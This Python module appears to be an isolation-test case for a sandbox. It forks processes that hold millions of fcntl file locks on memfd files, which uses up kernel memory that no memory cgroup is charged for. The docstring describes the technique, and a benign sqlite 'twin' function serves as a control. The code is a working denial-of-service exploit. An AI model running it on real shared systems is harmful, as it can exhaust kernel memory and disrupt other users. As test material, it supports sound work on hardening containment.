"""Hold millions of file locks.

Technique: fcntl(F_SETLK) on single bytes of files. Each lock is a kernel object of 192 bytes that the kernel charges to no
    memory cgroup (charging was merged in Linux 5.15 and taken back for its cost), and RLIMIT_LOCKS has had no effect
    since Linux 2.4. Many files and processes, because the locks of one file are searched one by one.
Success: the locks held take more than the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
Not promised: The kernel neither charges nor bounds locks (200,000 a second and processor here); they go with their execution.
"""
import struct
import time

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
LOCK_BYTES = 192
PROCESSES, FILES, SECONDS = 6, 1000, 7
F_SETLK, F_RDLCK = 6, 0


def hold(locks, until, ready, go_on):
    # struct flock: type, whence, start, length. Made once, for speed.
    lock = ctypes.create_string_buffer(struct.pack("hhqqi4x", F_RDLCK, os.SEEK_SET, 0, 1, 0))
    start = ctypes.c_int64.from_buffer(lock, 8)
    fcntl, pointer, command = libc.fcntl, ctypes.byref(lock), ctypes.c_int(F_SETLK)
    taken = 0
    try:
        for number in range(FILES):
            if time.monotonic() > until:
                break
            file = ctypes.c_int(os.memfd_create(str(number)))
            # Every second byte: neighbours would be joined.
            for offset in range(0, 2 * locks, 2):
                start.value = offset
                if fcntl(file, command, pointer):
                    raise OSError(ctypes.get_errno(), "fcntl")
                taken += 1
    finally:
        os.write(ready, taken.to_bytes(8, "little"))
    os.read(go_on, 1)


def attack():
    ready, go_on, until = os.pipe(), os.pipe(), time.monotonic() + SECONDS
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                hold(2 * LIMIT // LOCK_BYTES // PROCESSES // FILES, until, ready[1], go_on[0])
            finally:
                os._exit(0)
    taken = sum(int.from_bytes(os.read(ready[0], 8), "little") for _ in range(PROCESSES))
    if taken * LOCK_BYTES > LIMIT:
        return f"holds {taken} locks, {taken * LOCK_BYTES >> 20} MB of kernel memory"


def twin():
    """A database locks some ranges of its file."""
    import sqlite3

    database = sqlite3.connect("/tmp/twin.sqlite")
    with database:
        database.execute("create table t (n)")
        database.executemany("insert into t values (?)", [(n,) for n in range(1000)])
    assert database.execute("select sum(n) from t").fetchone() == (499500,)
